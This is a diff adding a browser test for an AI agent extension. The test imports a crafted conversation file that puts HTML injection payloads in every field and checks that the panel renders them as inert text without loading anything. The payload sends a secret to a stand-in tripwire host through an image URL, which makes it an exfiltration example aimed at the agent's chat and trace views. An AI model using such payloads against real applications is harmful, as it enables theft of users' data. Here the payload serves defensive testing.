@@ -225,3 +225,60 @@ def test_links_open_in_a_new_tab_without_referrer(browser, tmp_path, tripwire):
         assert browser.driver.current_url == panel_url
     finally:
         site.stop()
+
+
+def imported_attack(origin):
+    """A conversation file as an attacker would hand it around: payloads in every field."""
+    html = f'<img src="{origin}/field-img?d={SECRET}"><link rel="stylesheet" href="{origin}/field-css">'
+
+    def event(kind, seq, data, step=1):
+        return {"kind": kind, "conversation_id": "shared-chat", "agent": "agent", "depth": 0, "step": step, "seq": seq, "time": 1.764e9, "data": data}
+
+    events = [
+        event("step_start", 1, {}),
+        event("token", 2, {"text": f"Thinking {html}"}),
+        event("tool_call", 3, {"id": "c0", "name": f"read_page{html}", "arguments": {"html": html}}),
+        event("tool_result", 4, {"id": "c0", "name": "read_page", "result": html, "is_error": False}),
+        event("confirmation", 5, {"id": "k1", "tool": "click", "message": f"Click {html}?", "details": {"page": html, "element": html}, "decision": "deny"}),
+        event("code", 6, {"code": f"print('{html}')"}),
+        event("code_output", 7, {"output": html, "is_error": False}),
+        event("error", 8, {"message": f"Failed: {html}", "kind": "agent"}),
+        event("model_call", 9, {"url": f"{origin}/endpoint", "request": html, "status": 200, "response": html, "started": 1.0, "ended": 2.0}),
+        event("final_answer", 10, {"answer": answer_with_everything(origin, SECRET)}, step=2),
+        event("done", 11, {"status": "ok", "steps": 2, "usage": {}}, step=2),
+    ]
+    turn = {"id": "turn-1", "text": f"Question {html}", "context": {"selection": html, "title": html, "url": f"{origin}/page"},
+            "startedAt": 1_764_000_000_000, "finishedAt": 1_764_000_001_000, "status": "ok", "events": events}
+    return {"id": "shared-chat", "title": f"Shared chat {html}", "createdAt": 1_764_000_000_000, "updatedAt": 1_764_000_001_000,
+            "memory": None, "turns": [turn]}
+
+
+def test_an_imported_conversation_loads_nothing_in_history_panel_or_trace(browser, tripwire, tmp_path):
+    import json
+
+    path = tmp_path / "shared.json"
+    path.write_text(json.dumps({"format": "tabagent-conversations", "version": 1, "conversations": [imported_attack(tripwire.origin)]}))
+    browser.open_side_panel()
+    panel_url = browser.driver.current_url
+    browser.driver.find_element(By.ID, "show-history").click()
+    browser.driver.find_element(By.ID, "import-json").send_keys(str(path))
+    wait(browser, lambda d: "Imported 1 conversation" in d.find_element(By.ID, "notice-text").text, 10)
+    entry = wait(browser, lambda d: [b for b in d.find_elements(By.CSS_SELECTOR, "#history-list .open") if b.text.startswith("Shared chat")], 5)[0]
+    assert f'<img src="{tripwire.origin}/field-img' in entry.text  # the title is text, shown as written
+    assert settle(browser, tripwire) == []
+    entry.click()
+    wait(browser, lambda d: "The end." in d.find_element(By.ID, "conversation").text, 10)
+    turn = last_turn(browser.driver)
+    for details in turn.find_elements(By.CSS_SELECTOR, "details"):
+        browser.driver.execute_script("arguments[0].open = true", details)
+    turn.find_element(By.CSS_SELECTOR, ".show-trace").click()
+    for details in browser.driver.find_elements(By.CSS_SELECTOR, "#trace details"):
+        browser.driver.execute_script("arguments[0].open = true", details)
+    assert settle(browser, tripwire) == []
+    assert browser.driver.current_url == panel_url
+    for where in ("#history-list", "#conversation", "#trace"):  # the panel's own views: text only
+        report = browser.driver.execute_script(INSPECT_RENDERED, browser.driver.find_element(By.CSS_SELECTOR, where), tripwire.origin)
+        assert report["loading"] == [] and all(img["src"].startswith("data:") for img in report["images"]), (where, report)
+    answer = turn.find_element(By.CSS_SELECTOR, ".message.assistant")
+    assert_defused(browser.driver.execute_script(INSPECT_RENDERED, answer, tripwire.origin), tripwire.origin)
+    browser.screenshot("red-team-imported")
